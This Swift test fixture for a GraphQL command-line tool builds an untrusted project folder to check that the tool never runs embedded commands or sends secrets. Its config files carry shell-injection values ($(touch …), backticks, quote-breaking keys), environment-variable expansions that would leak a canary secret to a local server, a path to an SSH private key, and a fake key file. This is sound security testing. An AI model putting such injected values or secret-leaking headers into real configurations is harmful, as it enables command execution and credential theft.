import ApusTestSupport
import Foundation

/// A folder with untrusted files, next to the user's home, with indicators of harm:
///
/// - the canary file, which every command in the folder would create;
/// - the canary server, which every URL in the folder names;
/// - the canary value, an environment variable that every header in the folder would send.
final class HostileFolder: Sendable {
  static let value = "canary-0123456789abcdef"

  let home: TemporaryFolder
  /// The folder of another user, without files of this user.
  let project: TemporaryFolder
  let server: ScriptedServer
  private let command = "touch"

  init() throws {
    home = try TemporaryFolder()
    project = try TemporaryFolder()
    server = try ScriptedServer([.json(#"{"data":{"__typename":"Query","a":1}}"#)])
    let canary = project.path("PWNED")
    let live = "$(\(command) \(canary))"
    let url = server.url
    try project.write(
      ".graphqlrc.yml",
      """
      projects:
        default: { schema: [{ "\(url)": { headers: { Authorization: "Bearer ${CANARY}" } } }] }
        command: { schema: "\(url)?\(live)" }
        header: { schema: [{ "\(url)": { headers: { X: "\(live)" } } }] }
        value: { schema: "\(url)?${CANARY}" }
        named: { schema: [{ "\(url)?${CANARY}${NONE:\(live)}": { headers: { "X-Key": "$CANARY" } } }] }
        "\(live)": { schema: "\(url)?`\(command) \(canary)`" }
        "'; \(command) \(canary); '": { schema: "\(url)" }
        plain: { schema: "\(url)" }
      documents: "\(live)"
      """)
    try project.write(
      "apus-generate.yml",
      "schema:\n  - \"\(url)\":\n      headers: { Authorization: \"${CANARY}\", X: \"\(live)\" }\ndocuments: '*.graphql'\noutput: out\n"
    )
    try project.write(
      "schema.graphql", "scalar Upload type Query { a: Int } type Mutation { add(file: Upload): Int }\n")
    try project.write("query.graphql", "query Q($f: Upload) { a }\n# $(\(command) \(canary))\n")
    try project.write("query.variables.json", #"{"f": "~/.ssh/id"}"#)
    try project.write("\(live.replacingOccurrences(of: "/", with: "_")).graphql", "{ a }\n")
    try project.write("config.yml", "profiles: { default: { url: \"\(url)\", headers: { X: \"\(live)\" } } }\n")
    try project.write("apus/config.yml", "profiles: { default: { url: \"\(url)\", headers: { X: \"\(live)\" } } }\n")
    try project.write("keys.yml", "keys: {}\n")
    try project.write("notes.txt", "the person's own notes\n")
    try project.write(
      "session.ndjson",
      #"{"event":"request","atMs":0,"url":"\#(url)","query":"{ a }","variables":{"x":"\#(live)"}}"# + "\n")
    for folder in ["query", "deep/er"] { try project.write("\(folder)/.keep", "") }
    try home.write(".ssh/id", "-----BEGIN OPENSSH PRIVATE KEY-----\n\(Self.value)\n-----END OPENSSH PRIVATE KEY-----\n")
  }

  var environment: [String: String] {
    home.asHome.merging([
      "HOME": home.root, "CANARY": Self.value, "TERM": "xterm-256color", "LC_ALL": "C.UTF-8",
      "PATH": "\(Checkout.products):/usr/bin:/bin",
    ]) { $1 }
  }

  /// Returns descriptions of the harm done; empty if there is none.
  func harm() -> [String] {
    var harm: [String] = []
    if FileManager.default.fileExists(atPath: project.path("PWNED")) { harm.append("a command ran") }
    harm += server.requests.compactMap { request in
      let all = request.target + request.headers.map { "\($0.name): \($0.value)" }.joined() + request.bodyText
      return all.contains(Self.value) ? "the value was sent: \(request.target)" : nil
    }
    return harm
  }

  /// Runs a program in the folder or a subfolder.
  func run(_ words: [String], in folder: String = "") async throws -> ChildProcess.Outcome {
    let place = folder.isEmpty ? project.root : project.path(folder)
    return try await ChildProcess.run("/usr/bin/env", ["-C", place] + words, environment: environment)
  }

  func apus(_ words: [String], in folder: String = "") async throws -> ChildProcess.Outcome {
    try await run([Checkout.apus] + words, in: folder)
  }

  /// Opens a terminal whose shell is in the folder.
  func terminal(columns: Int = 110, rows: Int = 32) async throws -> TmuxSession {
    let session = try await TmuxSession(columns: columns, rows: rows, environment: environment, home: home)
    try await session.run("cd \(project.root)")
    return session
  }
}
